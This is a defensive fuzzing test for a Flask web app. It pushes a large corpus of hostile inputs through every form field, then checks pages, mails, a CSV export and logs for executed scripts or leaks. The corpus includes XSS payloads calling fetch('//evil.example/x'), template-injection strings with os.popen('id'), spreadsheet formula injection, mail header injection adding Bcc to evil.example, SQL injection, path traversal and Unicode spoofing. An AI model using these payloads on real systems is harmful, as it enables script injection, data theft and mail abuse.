"""Hostile words through every field, and what a real browser, a mail, the CSV and the log make of them."""

from __future__ import annotations

import csv
import io
import itertools
import json
import logging
from collections import Counter
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

from flask import Flask
from playwright.sync_api import Browser as Chromium
from playwright.sync_api import Page

from tests import factories
from tests.conftest import Browser
from tests.smtp_server import SmtpServer
from webapp import logs
from webapp.extensions import limiter
from webapp.models import Person
from webapp.text import clean, one_line

from .installation import send

# What a payload does if it runs: each of these is looked for.
DO = "window.pwned=1;alert(1);fetch('//evil.example/x')"
TAGS = (
    "<script>{}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=\"{}\">",
    "<svg onload=\"{}\">", "<svg><script>{}</script></svg>", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>",
    "<body onload=\"{}\">", "<iframe srcdoc=\"<script>{}</script>\">", "<iframe src=\"javascript:{}\">",
    "<details open ontoggle=\"{}\">", "<video><source onerror=\"{}\">", "<input autofocus onfocus=\"{}\">",
    "<marquee onstart=\"{}\">", "<object data=//evil.example/x></object>", "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
    "<form action=//evil.example/><button>Approve</button></form>", "<a href=\"javascript:{}\">x</a>",
    "<math><mtext><style><img src=x onerror=\"{}\">", "<img src=//evil.example/pixel.gif>",
    "<button hx-get=//evil.example/x hx-trigger=load>x</button>", "<div hx-on:load=\"{}\">x</div>",
    "<template><script>{}</script></template>", "<audio src=//evil.example/x onerror=\"{}\">",
    "<xmp><img src=x onerror=\"{}\"></xmp>", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
)  # fmt: skip
BREAKS = (
    "{}", "\">{}", "'>{}", "`>{}", "</textarea>{}", "</title>{}", "-->{}", "</script>{}", "]]>{}", "</p></div>{}",
    "\\\">{}", "&lt;b&gt;{}",
)  # fmt: skip
ATTRIBUTES = tuple(
    f"{quote}{space}{event}={quote}{DO}{quote} x={quote}"
    for quote in ("\"", "'", "`")
    for space in (" ", "/", "\t", "\n")
    for event in ("onmouseover", "onfocus", "onerror", "onload", "onanimationstart")
)  # fmt: skip
TEMPLATES = tuple(
    begin + inside + end
    for begin, end in (("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"))
    for inside in (
        " 7*7 ", " config ", " me.password_hash ", " self.__init__.__globals__ ", " ''.__class__.__mro__ ",
        " request.environ ", " cycler.__init__.__globals__.os.popen('id').read() ", " settings.secret_key ",
    )
)  # fmt: skip
FORMULAS = tuple(
    sign + rest
    for sign in ("=", "+", "-", "@", "\t=", "\r=", " =", "\"=", "'=", "＝", "﹢", "\n=")
    for rest in ("cmd|'/C calc'!A0", "HYPERLINK(\"//evil.example\",\"x\")", "1+1", "SUM(A1:A9)*cmd",
                 "IMPORTXML(\"//evil.example\")")
)  # fmt: skip
HEADERS = tuple(
    f"x{end}{line}"
    for end in ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1e", "嘊嘍", "\r\n\t")
    for line in ("Bcc: all@evil.example", "Set-Cookie: a=b", "Location: //evil.example",
                 "\r\n<script>alert(1)</script>")
)  # fmt: skip
TURNING = tuple(
    f"{sign}{words}"
    for sign in (
        "\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u200e", "\u061c", "\u200b",
        "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u3164", "\u115f", "\u034f",
    )
    for words in ("gnp.exe", "Approved by Ana", "", "x\u202c y")
)  # fmt: skip
ODD = (
    "\0", "a\0b", "\0" * 50, "\x01\x02\x07\x08\x1b[31mred\x1b[0m", "\x7f", "\ufffe\uffff", "\U0001fffe", "\ud800",
    "👩‍👩‍👧‍👦", "🏳️‍🌈🇩🇪", "😀" * 200, "Z" + "\u0301" * 200, "İstanbul", "ß ﬁ Ω≈ç√", "ﷺ" * 30, "𝕳𝖊𝖑𝖑𝖔", "…", "\u3000",
    " ", "\t\n", "-", "0", "None", "null", "undefined", "NaN", "true", "[]", "{}", "1e999", "9" * 400, "-1",
    "'; DROP TABLE people; --", "\" OR 1=1 --", "%' OR '1'='1", "\\", "\\'", "%s%n%x", "{0.__class__}", "%(password)s",
    "../../../etc/passwd", "..\\..\\", "/decide/x", "file:///etc/passwd", "javascript:" + DO, "JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>", "vbscript:x", "//evil.example", "https://evil.example/?q=1",
    "long " * 300, "W" * 2000, "x" * 100_000,
)  # fmt: skip
ADDRESSES = (
    "аna@example.com", "ana@exаmple.com", "ana@еxample.com", "ana@example.com\u200b", "ana\u00ad@example.com",
    "ANA@EXAMPLE.COM", "ana@example.com\0", "ana@example.com\r\nBcc: x@evil.example", "ana@example.com,x@evil.example",
    "\"ana\"@example.com", "ana+x@example.com", "ana@[127.0.0.1]", "<ana@example.com>", "ana@example.com (x)",
    "ana@bücher.example", "ａｎａ@example.com", "ana@xn--exmple-cua.com", "ana@@example.com", "@", "ana@example",
    "ana@example.com;x@evil.example", "=?utf-8?q?ana?=@example.com", "ana@exam\u2024ple.com", "ana@example。com",
    "a" * 300 + "@example.com",
)  # fmt: skip


def corpus() -> list[str]:
    """All of them, each once, those of one family side by side."""
    html = [
        broken.replace("{}", tag.replace("{}", DO)) for tag, broken in itertools.product(TAGS, BREAKS)
    ]  # fmt: skip
    return list(dict.fromkeys([*html, *ATTRIBUTES, *TEMPLATES, *FORMULAS, *HEADERS, *TURNING, *ODD, *ADDRESSES]))


@dataclass
class Findings:
    """What came of it; `wrong` in sentences, `statuses` of all that was posted."""

    payloads: int = 0
    statuses: Counter[int] = field(default_factory=Counter)
    pages: int = 0
    mails: int = 0
    cells: int = 0
    lines: int = 0
    wrong: list[str] = field(default_factory=list)


def throw(app: Flask, company: factories.Company, words: list[str], smtp: SmtpServer, chromium: Chromium | None,
          address: str) -> Findings:  # fmt: skip
    """Each payload through every field; then everything is looked at."""
    found = Findings(len(words))
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    log = io.StringIO()
    logs.configure(stream=log)
    limiter.enabled = False
    try:
        talk = _type_everywhere(app, company, words, found)
        send()
        found.mails = len(smtp.mails)
        _look_at_mails(smtp, found)
        admin, rita = Browser(app, company.adam), Browser(app, company.rita)
        _look_at_texts(rita, talk, words, found)
        _look_at_table(admin, found)
        paths = {
            company.rita: ["/", "/catalog", "/requests", talk],
            company.ana: ["/", "/approvals", talk.replace("/requests", "/approvals"), "/approvals/decided"],
            company.adam: ["/admin/apps", "/admin/people", "/admin/groups", "/admin/requests", "/admin/mail",
                           "/admin/audit", "/mailbox"],
        }  # fmt: skip
        if chromium is not None:
            for person, some in paths.items():
                _look_in_a_browser(app, chromium, address, person, some, found)
            look_at_mails_in_a_browser(chromium, smtp, found)
    finally:
        limiter.enabled = True
        root.handlers[:] = handlers
        root.setLevel(level)
    _look_at_log(log, found)
    return found


def _type_everywhere(app: Flask, company: factories.Company, words: list[str], found: Findings) -> str:
    """The address of the request that has every payload as a comment."""
    admin, rita, ana, nobody = (Browser(app, one) for one in (company.adam, company.rita, company.ana, None))
    talk = f"/requests/{factories.request(company.rita, factories.app('Talk', company.ana)).public_id}"
    plain = factories.app("Plain", company.ana, owner=company.ben)
    page = f"/admin/apps/{plain.public_id}"

    def post(browser: Browser, path: str, **form: str) -> Any:
        answer = browser.post(path, form)
        found.statuses[answer.status_code] += 1
        if answer.status_code >= 500:
            found.wrong.append(f"{path} answers {answer.status_code} to {form!r:.200}")
        return answer

    for number, one in enumerate(words):
        # A lone surrogate cannot be sent by a form; what a browser would send in its place can.
        word = one.encode("utf-8", "replace").decode()
        post(rita, f"{talk}/comments", comment=word)
        post(admin, "/admin/apps", name=word)
        post(admin, f"{page}/note", note=word, was="{}")
        post(admin, f"{page}/details", name=word, description=word, category=word, launch_url=word, was="{}")
        post(admin, "/admin/groups", name=word)
        post(admin, "/admin/people", name=word, email=word, about=word)
        post(admin, "/admin/people", name=word, email=f"p{number}@example.com", about=word)
        post(nobody, "/sign-in", email=word, password="x", next=word)
        post(nobody, "/password/forgot", email=word)
        post(rita, "/account/time-zone", time_zone=word)
        name = one_line(word)[:60] or "-"
        wanted = factories.app(f"{name} {number}", company.ana, description=clean(word)[:500], category=name)
        asked = post(rita, f"/catalog/{wanted.public_id}/request", message=word[:900])
        if asked.status_code == 303 and number % 3 == 0:
            post(ana, f"{asked.headers['Location']}/denial", reason=word[:900], comment=word[:900], code=word[:50])
        for path in ("/catalog?q=", "/admin/people?q=", "/admin/audit?who=", "/admin/mail?q=", "/admin/requests?q="):
            answer = admin.get(path + quote(word[:300], safe=""))
            found.statuses[answer.status_code] += 1
            if answer.status_code >= 500:
                found.wrong.append(f"{path} answers {answer.status_code} to {word!r:.200}")
    return talk


def _look_at_texts(browser: Browser, talk: str, words: list[str], found: Findings) -> None:
    """Nothing is lost: what was written stands on the page as it was written, but for `clean`."""
    from tests.test_hostile_input import Skeleton

    text = "".join(Skeleton(browser.get(talk).text).texts)
    for one in words:
        kept = clean(one.encode("utf-8", "replace").decode())
        if kept and len(kept) <= 1000 and kept not in text:
            found.wrong.append(f"not on the page: {kept!r:.200}")


def _look_at_mails(smtp: SmtpServer, found: Findings) -> None:
    from tests.mail.test_hostile import HEADERS as KNOWN
    from tests.mail.test_hostile import Tags

    for mail in smtp.mails:
        tags = Tags(mail.html)
        names = mail.message.keys()
        if not set(names) <= KNOWN or len(set(names)) != len(names) or len(mail.recipients) != 1:
            found.wrong.append(f"a mail with the headers {names}, to {mail.recipients}")
        if {"script", "img", "iframe", "svg", "form", "object"} & set(tags.tags):
            found.wrong.append(f"a mail with the tags {sorted(set(tags.tags))}")
        if any(name.startswith("on") for name in tags.attributes):
            found.wrong.append(f"a mail with the attributes {sorted(tags.attributes)}")
        if not all(where.startswith("http://localhost/") for where in tags.addresses):
            found.wrong.append(f"a mail that leads to {sorted(tags.addresses)}")


def _look_at_table(admin: Browser, found: Findings) -> None:
    answer = admin.get("/admin/audit.csv", buffered=True)
    rows = list(csv.reader(io.StringIO(answer.get_data(as_text=True).lstrip("\ufeff"))))
    for cell in itertools.chain.from_iterable(rows):
        found.cells += 1
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
            found.wrong.append(f"a cell that is a formula: {cell!r:.200}")
    if len({len(row) for row in rows}) != 1:
        found.wrong.append("rows of the table have different lengths")


def _look_at_log(log: io.StringIO, found: Findings) -> None:
    for line in log.getvalue().split("\n"):
        if line:
            found.lines += 1
            try:
                json.loads(line)
            except ValueError:
                found.wrong.append(f"a line of the log that is none: {line!r:.200}")
            if "\x1b" in line or "\0" in line:
                found.wrong.append(f"a line of the log that moves the screen: {line!r:.200}")


def _watched(page: Page, host: str, found: Findings) -> None:
    page.on("dialog", lambda dialog: (found.wrong.append(f"a dialog on {page.url}"), dialog.dismiss()))

    def said(message: Any) -> None:
        if "Content Security Policy" in message.text or message.type == "error":
            found.wrong.append(f"the console on {page.url}: {message.text:.200}")

    page.on("console", said)

    def asked(request: Any) -> None:
        if not request.url.startswith((host, "data:", "about:", "blob:")):
            found.wrong.append(f"a request to {request.url:.200} from {page.url}")

    page.on("request", asked)


def _look_in_a_browser(app: Flask, chromium: Chromium, address: str, person: Person, paths: list[str],
                       found: Findings) -> None:  # fmt: skip
    browser = Browser(app, person)
    cookie = browser.client.get_cookie("countersign")
    assert cookie is not None
    context = chromium.new_context()
    context.add_cookies([{"name": "countersign", "value": cookie.value, "url": address}])
    page = context.new_page()
    _watched(page, address, found)
    for path in paths:
        following: str | None = path
        for _ in range(60):
            page.goto(address + following)
            found.pages += 1
            page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
            if page.evaluate("window.pwned") is not None:
                found.wrong.append(f"a script ran on {page.url}")
            # All pages of a list, as far as it says "More" or "Older".
            more = page.locator(".cs-pager a").filter(has_text="More").or_(
                page.locator(".cs-pager a").filter(has_text="Older")
            ).or_(page.locator(".cs-pager a").filter(has_text="Next"))  # fmt: skip
            following = more.first.get_attribute("href") if more.count() else None
            if following is None:
                break
            if following.startswith("?"):
                following = path.partition("?")[0] + following
    context.close()


def look_at_mails_in_a_browser(chromium: Chromium, smtp: SmtpServer, found: Findings) -> None:
    """As a mail program without any guard would show them."""
    context = chromium.new_context()
    page = context.new_page()
    _watched(page, "http://localhost/", found)
    shown = {"html": ""}
    # At an address, so that one without a scheme leads somewhere, too.
    page.route("http://localhost/mail", lambda route: route.fulfill(content_type="text/html", body=shown["html"]))
    for mail in smtp.mails:
        shown["html"] = mail.html
        page.goto("http://localhost/mail")
        if page.evaluate("window.pwned") is not None:
            found.wrong.append(f"a script ran in the mail {mail.subject!r:.200}")
    context.close()
